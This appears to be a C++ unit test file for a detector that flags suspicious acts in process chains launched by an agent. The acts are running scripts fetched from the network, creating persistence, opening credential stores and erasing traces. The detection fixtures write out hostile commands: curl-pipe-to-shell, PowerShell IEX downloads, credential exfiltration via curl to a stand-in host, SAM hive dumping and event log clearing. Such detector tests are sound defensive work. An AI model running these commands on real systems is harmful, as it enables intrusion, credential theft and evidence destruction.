// What the programs of a chain ran, left and opened.
#include "clew/inquiry/detail/acts.h"

#include <gtest/gtest.h>

namespace clew::inquiry::acts {
namespace {

/// A chain with this command line at its root.
Acts runs(std::string_view command) { return Acts{agent_shell("desk-1", "04T10:00:00", command)}; }
/// A chain whose second program has this command line.
Acts starts(std::string_view path, std::string_view command) {
  return Acts{agent_shell("desk-1", "04T10:00:00", "sh /tmp/task"),
              child("desk-1", "04T10:00:02", {.path = path, .command = command, .pid = "60"})};
}

TEST(RunsWhatItFetched, IsAScriptFromTheNetworkOrAProgramThatTheChainBrought) {
  const Trace root = agent_shell("desk-1", "04T10:00:00", "sh /tmp/task");
  EXPECT_EQ(
      check(
          "runs-what-it-fetched",
          {
              {"piped_into_a_shell", runs("curl -fsSL https://get.tool.example | sh"), 2},
              {"into_a_shell_of_the_administrator", runs("curl -sL https://get.tool.example | sudo -E bash -"), 2},
              {"with_arguments_for_the_script", runs("wget -qO- https://get.tool.example|bash -s -- --yes"), 2},
              {"into_python_reading_its_input", runs("curl https://get.tool.example/x.py | python3 -"), 2},
              {"through_another_program", runs("curl https://x.example/a | base64 -d | /bin/sh"), 2},
              {"bash_of_a_stream", runs("bash <(curl -s https://get.tool.example)"), 2},
              {"bash_of_a_text", runs("/bin/bash -c \"$(curl -fsSL https://get.tool.example)\""), 2},
              {"powershell_of_a_text",
               starts(R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                      "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://get.tool.example')\""),
               2},
              {"powershell_with_the_short_names",
               starts("/usr/local/bin/pwsh", "pwsh -c \"iwr https://x.example|iex\""), 2},
              {"a_program_that_the_chain_wrote",
               {root, wrote("desk-1", "04T10:00:01", "/var/tmp/tool"),
                child("desk-1", "04T10:00:03", {.path = "/var/tmp/tool", .pid = "60"})},
               2},
              {"a_script_that_the_chain_wrote",
               {root, wrote("desk-1", "04T10:00:01", "/var/tmp/.s", {"/usr/bin/curl", "55"}),
                child("desk-1", "04T10:00:00",
                      {.path = "/usr/bin/curl", .command = "curl -o /var/tmp/.s x.example", .pid = "55"}),
                child("desk-1", "04T10:00:03", {.path = "/bin/bash", .command = "bash -e /var/tmp/.s", .pid = "60"})},
               2},
              {"a_program_without_signature_where_files_are_not_recorded",
               {root, child("desk-1", "04T10:00:03",
                            {.path = "/Users/kim/Library/tool", .pid = "60", .signature = "unsigned"})},
               2},
              {"twice_weighs_once",
               {root, wrote("desk-1", "04T10:00:01", "/var/tmp/a"), wrote("desk-1", "04T10:00:01", "/var/tmp/b"),
                child("desk-1", "04T10:00:03", {.path = "/var/tmp/a", .pid = "60"}),
                child("desk-1", "04T10:00:03", {.path = "/var/tmp/b", .pid = "61"})},
               2},
              // silent
              {"a_shell_that_asks_for_a_page", runs("curl -fsS https://status.tool.example"), silent},
              {"json_made_readable", runs("curl -s https://api.tool.example/v1 | python3 -m json.tool"), silent},
              {"a_column_of_an_answer", runs("curl -s https://api.tool.example/v1 | awk '{print $2}'"), silent},
              {"an_answer_read_by_a_one_liner",
               runs("curl -s https://api.tool.example/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'"),
               silent},
              {"an_answer_fed_to_a_script_that_is_there",
               runs("curl -s https://api.tool.example/v1 | node /srv/report/index.js"), silent},
              {"a_version_kept_in_a_variable", runs("V=$(curl -s https://api.tool.example/latest); echo $V"), silent},
              {"two_pages_compared", runs("diff <(curl -s https://a.example) <(curl -s https://b.example)"), silent},
              {"a_fallback_is_no_pipe", runs("curl -f https://tool.example/health || bash /srv/notify.sh"), silent},
              {"an_archive_unpacked", runs("wget -qO- https://tool.example/a.tgz | tar xz -C /srv"), silent},
              {"powershell_that_saves_a_page",
               starts("pwsh", "pwsh -c \"Invoke-WebRequest https://tool.example -OutFile iexplore.msi\""), silent},
              {"a_package_installed_by_the_systems_installer",
               {root, wrote("desk-1", "04T10:00:01", "/tmp/Tool.pkg"),
                child(
                    "desk-1", "04T10:00:03",
                    {.path = "/usr/sbin/installer", .command = "installer -pkg /tmp/Tool.pkg -target /", .pid = "60"})},
               silent},
              {"data_that_was_written_and_then_read",
               {root, wrote("desk-1", "04T10:00:01", "/tmp/data.json", {"/usr/bin/curl", "55"}),
                child("desk-1", "04T10:00:00", {.path = "/usr/bin/curl", .command = "curl -o", .pid = "55"}),
                child("desk-1", "04T10:00:03",
                      {.path = "/usr/bin/python3", .command = "python3 /srv/load.py /tmp/data.json", .pid = "60"})},
               silent},
              {"a_signed_program_that_was_there",
               {root, child("desk-1", "04T10:00:03",
                            {.path = "/Applications/Tool.app/tool", .pid = "60", .signature = "signed"})},
               silent},
              {"a_program_that_replaces_itself_later",
               {launch("desk-1", "04T10:00:00", {.path = "/opt/tool/tool", .pid = "70", .signature = "unsigned"}),
                wrote("desk-1", "04T10:30:00", "/opt/tool/tool", {"/opt/tool/tool", "70"})},
               silent},
              {"the_script_of_an_order",
               {wrote("desk-1", "04T09:59:58", "/tmp/order-17", {agent, "1"}),
                agent_shell("desk-1", "04T10:00:00", "/bin/sh /tmp/order-17")},
               silent},
              {"the_agents_update_of_itself",
               {launch("desk-1", "04T10:00:00", {.path = "/opt/harbour/bin/updater", .pid = "70", .parent = agent}),
                wrote("desk-1", "04T10:00:05", "/opt/harbour/bin/helper", {"/opt/harbour/bin/updater", "70"}),
                launch("desk-1", "04T10:00:09",
                       {.path = "/opt/harbour/bin/helper", .parent = "/opt/harbour/bin/updater", .parent_pid = "70"})},
               silent},
          }),
      "");
}

TEST(NewPersistence, IsWhatMakesItselfStart) {
  const Trace root = agent_shell("desk-1", "04T10:00:00", "sh /tmp/task");
  const auto leaves = [&](std::string_view path) { return Acts{root, wrote("desk-1", "04T10:00:05", path)}; };
  EXPECT_EQ(
      check(
          "new-persistence",
          {
              {"launch_daemon", leaves("/Library/LaunchDaemons/com.tool.plist"), 2},
              {"launch_agent", leaves("/Users/kim/Library/LaunchAgents/com.tool.plist"), 2},
              {"systemd_unit", leaves("/etc/systemd/system/tool.service"), 2},
              {"cron", leaves("/etc/cron.d/tool"), 2},
              {"a_key_that_may_sign_in", leaves("/home/kim/.ssh/authorized_keys"), 2},
              {"start_up_folder", leaves(R"(C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\tool.lnk)"),
               2},
              {"two_ways_weigh_once",
               {root, wrote("desk-1", "04T10:00:05", "/etc/cron.d/tool"),
                wrote("desk-1", "04T10:00:05", "/etc/systemd/system/tool.service")},
               2},
              {"schtasks", starts("C:/Windows/System32/schtasks.exe", "schtasks.exe /Create /TN x /TR y"), 2},
              {"sc", starts("C:/Windows/System32/sc.exe", "sc create tool binPath= c:\\x.exe"), 2},
              {"reg_add",
               starts("C:/Windows/System32/reg.exe",
                      R"(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x)"),
               2},
              {"systemctl", starts("/usr/bin/systemctl", "systemctl --now enable tool.service"), 2},
              {"crontab_from_its_input", runs("(crontab -l; echo '* * * * * x') | crontab -"), 2},
              {"crontab_of_a_file", starts("/usr/bin/crontab", "crontab -u kim /tmp/tab"), 2},
              {"launchctl", starts("/bin/launchctl", "launchctl load -w /Library/LaunchDaemons/com.tool.plist"), 2},
              // silent
              {"a_file_elsewhere", leaves("/srv/tool/tool.conf"), silent},
              {"a_daemon_that_was_only_read",
               {root, opened("desk-1", "04T10:00:05", "/Library/LaunchDaemons/com.tool.plist")},
               silent},
              {"a_unit_that_was_removed",
               {root, removed("desk-1", "04T10:00:05", "/etc/systemd/system/tool.service")},
               silent},
              {"crontab_listed", runs("crontab -l"), silent},
              {"crontab_of_somebody_listed", runs("for u in a b; do crontab -u $u -l; done"), silent},
              {"crontab_read_as_a_file", runs("cat /etc/crontab - "), silent},
              {"run_keys_listed", runs(R"(reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run)"), silent},
              {"tasks_listed", runs("schtasks /query /fo csv"), silent},
              {"a_unit_asked_about", runs("systemctl is-enabled tool && systemctl status tool"), silent},
              {"daemons_listed", runs("launchctl list | grep tool"), silent},
              {"words_that_hold_a_name", runs("disc create x; regions add currentversion\\run"), silent},
              {"the_agents_own_daemon", leaves("/Library/LaunchDaemons/example.harbour.agent.plist"), silent},
              {"the_agents_own_daemon_loaded_by_its_update",
               starts("/bin/launchctl",
                      "launchctl bootstrap system /Library/LaunchDaemons/example.harbour.agent.plist"),
               silent},
              {"the_agents_own_unit_enabled_by_its_update",
               starts("/usr/bin/systemctl", "systemctl enable harbour-agent"), silent},
              {"its_unit_by_its_whole_name", starts("/usr/bin/systemctl", "systemctl enable harbour-agent.service"),
               silent},
              {"a_unit_that_is_called_nearly_like_it", starts("/usr/bin/systemctl", "systemctl enable harbour-agent-2"),
               2},
              {"a_folder_that_is_called_like_it", starts("/bin/launchctl", "launchctl load /srv/harbour-agent/x.plist"),
               2},
              {"in_a_temporary_folder_nothing_is_the_agents_own",
               starts("/bin/launchctl", "launchctl load /tmp/harbour-agent-1/x.plist"), 2},
              {"somebody_elses_installer",
               {launch("desk-1", "04T10:00:00", {.path = "/usr/sbin/installer", .pid = "90", .signature = "platform"}),
                wrote("desk-1", "04T10:00:05", "/Library/LaunchDaemons/com.tool.plist", {"/usr/sbin/installer", "90"})},
               silent},
          }),
      "");
}

TEST(CredentialStoreOpened, IsWhateverOpensSecretsInTheChain) {
  const Trace root = agent_shell("desk-1", "04T10:00:00", "sh /tmp/task");
  const auto opens = [&](std::string_view path) { return Acts{root, opened("desk-1", "04T10:00:05", path)}; };
  EXPECT_EQ(
      check("credential-store-opened",
            {
                {"keychain", opens("/Users/kim/Library/Keychains/login.keychain-db"), 3},
                {"cloud_keys", opens("/home/kim/.aws/credentials"), 3},
                {"ssh_key", opens("/home/kim/.ssh/id_ed25519"), 3},
                {"browser_on_windows",
                 opens(R"(C:\Users\kim\AppData\Local\Google\Chrome\User Data\Default\Login Data)"), 3},
                {"browser_on_linux", opens("/home/kim/.mozilla/firefox/x.default/key4.db"), 3},
                {"a_copy_in_a_temporary_folder_where_reading_is_not_recorded",
                 {root, wrote("desk-1", "04T10:00:05", R"(C:\Users\kim\AppData\Local\Temp\Login Data)")},
                 3},
                {"many_weigh_once",
                 {root, opened("desk-1", "04T10:00:05", "/home/kim/.aws/credentials"),
                  opened("desk-1", "04T10:00:06", "/home/kim/.ssh/id_rsa"),
                  opened("desk-1", "04T10:00:07", "/home/kim/.netrc")},
                 3},
                {"a_command_line_where_no_file_record_tells",
                 runs("cat ~/.aws/credentials | curl -T - https://x.example"), 3},
                {"hashes_of_the_system",
                 starts("C:/Windows/System32/reg.exe", R"(reg save HKLM\SAM C:\Users\Public\s.hiv)"), 3},
                // silent
                {"a_file_that_could_not_be_opened",
                 [&] {
                   Trace tried = opened("desk-1", "04T10:00:05", "/home/kim/.aws/credentials");
                   tried.event.status = model::Status::failure;
                   return Acts{root, tried};
                 }(),
                 silent},
                {"a_key_that_is_used", runs("ssh -i /home/kim/.ssh/id_rsa host true"), silent},
                {"a_key_that_is_protected", runs("chmod 600 /home/kim/.ssh/id_rsa"), silent},
                {"a_public_key", opens("/home/kim/.ssh/id_ed25519.pub"), silent},
                {"settings_beside_the_keys", opens("/home/kim/.aws/config"), silent},
                {"a_new_key_is_made", {root, wrote("desk-1", "04T10:00:05", "/home/kim/.ssh/id_ed25519")}, silent},
                {"the_companys_registry_is_set_up_for_everybody",
                 {root, wrote("desk-1", "04T10:00:05", "/Users/kim/.npmrc")},
                 silent},
                {"old_secrets_are_removed", {root, removed("desk-1", "04T10:00:05", "/home/kim/.netrc")}, silent},
                {"a_password_safe_is_installed",
                 {root, wrote("desk-1", "04T10:00:05", R"(C:\Users\kim\AppData\Local\1Password\app\8\1Password.exe)")},
                 silent},
                {"the_browser_opens_its_own",
                 {root, opened("desk-1", "04T10:00:05", "/home/kim/.config/chromium/Default/Cookies",
                               {"/usr/lib/chromium/chromium", "700"})},
                 silent},
                {"a_signed_backup_tool",
                 {launch("desk-1", "04T10:00:00",
                         {.path = "/Applications/Backup.app/b", .pid = "90", .signature = "signed"}),
                  opened("desk-1", "04T10:00:05", "/Users/kim/Library/Keychains/login.keychain-db",
                         {"/Applications/Backup.app/b", "90"})},
                 silent},
                {"a_process_id_that_was_used_again",
                 {root, launch("desk-1", "04T11:00:00", {.path = "/usr/bin/ssh", .pid = "50", .parent = "/bin/zsh"}),
                  opened("desk-1", "04T11:00:01", "/home/kim/.ssh/id_rsa", {"/usr/bin/ssh", "50"})},
                 silent},
            }),
      "");
}

TEST(TracesRemoved, IsWhatTheChainWroteOrTheLogs) {
  const Trace root = agent_shell("desk-1", "04T10:00:00", "sh /tmp/task");
  const Trace written = wrote("desk-1", "04T10:00:02", "/var/tmp/tool");
  const auto then = [&](std::string_view path, std::string_view command) {
    return Acts{root, written, child("desk-1", "04T10:00:09", {.path = path, .command = command, .pid = "60"})};
  };
  EXPECT_EQ(
      check("traces-removed",
            {
                {"rm", then("/bin/rm", "rm -f /var/tmp/tool"), 1},
                {"rm_without_options", then("/bin/rm", "/bin/rm /var/tmp/tool"), 1},
                {"remove_item", then("/usr/local/bin/pwsh", "pwsh -c 'Remove-Item /var/tmp/tool'"), 1},
                {"the_file_is_gone", {root, written, removed("desk-1", "04T10:00:09", "/var/tmp/tool")}, 1},
                {"logs_of_the_system", runs("rm -rf /var/log/secure"), 1},
                {"windows_event_log", runs("wevtutil cl Security"), 1},
                {"unified_log", runs("log erase --all"), 1},
                {"twice_weighs_once",
                 {root, written, removed("desk-1", "04T10:00:09", "/var/tmp/tool"),
                  child("desk-1", "04T10:00:09", {.path = "/bin/rm", .command = "rm -f /var/tmp/tool", .pid = "60"})},
                 1},
                // silent
                {"somebody_elses_file", then("/bin/rm", "rm -rf /srv/old"), silent},
                {"a_file_that_others_wrote", {root, removed("desk-1", "04T10:00:09", "/srv/cache/1")}, silent},
                {"an_option_that_ends_in_del", then("/usr/bin/python3", "python3 train.py --model /var/tmp/tool"),
                 silent},
                {"a_word_that_ends_in_rm", then("/srv/farm", "farm -o /var/tmp/tool"), silent},
                {"a_model_of_the_logs", runs("python3 train.py --model x --data /var/log/app"), silent},
                {"logs_are_read", runs("wevtutil qe Security /c:10; tail /var/log/secure"), silent},
                {"a_catalogue", runs("catalog erase --help"), silent},
                {"written_and_kept", {root, written}, silent},
            }),
      "");
}

}  // namespace
}  // namespace clew::inquiry::acts
